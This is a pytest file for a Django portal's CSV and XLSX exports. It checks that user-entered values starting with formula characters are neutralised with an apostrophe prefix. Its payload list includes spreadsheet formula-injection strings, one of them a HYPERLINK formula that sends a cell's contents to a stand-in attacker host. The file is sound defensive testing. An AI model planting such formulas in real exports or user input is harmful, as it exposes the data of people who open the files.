"""A value a user typed never runs as a spreadsheet formula in an export."""

import csv
import io

import pytest
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from segur_portal.exports import csv_safe, xlsx_cell
from tests.factories import CandidatureFactory, UserFactory
from tests.pages import body, csv_rows, xlsx_cells

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    " =1+1",
    '\u00a0=HYPERLINK("http://x")',
    '=HYPERLINK("http://attaquant.example/?"&A1,"Cliquez")',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_safe_neutralises_formulas(payload):
    assert csv_safe(payload).startswith("'")


@pytest.mark.parametrize("value", ["ACME", "1-2", "logiciel = outil", "", "3.2.1", "é=mc2"])
def test_csv_safe_keeps_ordinary_values(value):
    assert csv_safe(value) == value


def test_csv_safe_accepts_none_and_numbers():
    assert csv_safe(None) == ""
    assert csv_safe(-3) == "'-3"
    assert csv_safe(42) == "42"


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_public_registry_export_is_formula_safe(client, payload):
    CandidatureFactory(admin_validee=True, nom_commercial=payload, editeur__raison_sociale=payload)
    response = client.get("/registre/en-cours.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))
    assert len(rows) == 2
    _dsr, editeur, nom_commercial, *_ = rows[1]
    for cell in (editeur, nom_commercial):
        assert cell == "'" + payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_xlsx_text_cell_is_guarded_like_a_csv_cell(payload):
    cell = xlsx_cell(payload)
    assert cell.startswith("'")
    # XLSX refuses control characters other than tab, line feed and carriage return.
    assert not ILLEGAL_CHARACTERS_RE.search(cell)


@pytest.mark.django_db
@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_agency_exports_are_formula_safe(client, export):
    for payload in PAYLOADS:
        CandidatureFactory(
            admin_soumise=True,
            nom_commercial=payload,
            version_technique=payload,
            editeur__raison_sociale=payload,
        )
    client.force_login(UserFactory(admin=True))
    content = body(client.get("/candidatures/", {"export": export}))
    if export == "csv":
        cells = [cell for row in csv_rows(content)[1:] for cell in row]
    else:
        typed = xlsx_cells(content)
        assert not [cell for cell in typed if cell.data_type == "f"]
        cells = [cell.value for cell in typed if isinstance(cell.value, str)]
    for payload in PAYLOADS:
        assert cells.count("'" + payload) == 3
    assert not [
        cell for cell in cells if cell and cell.lstrip(" \u00a0")[:1] in set("=+-@＝＋－＠")
    ]
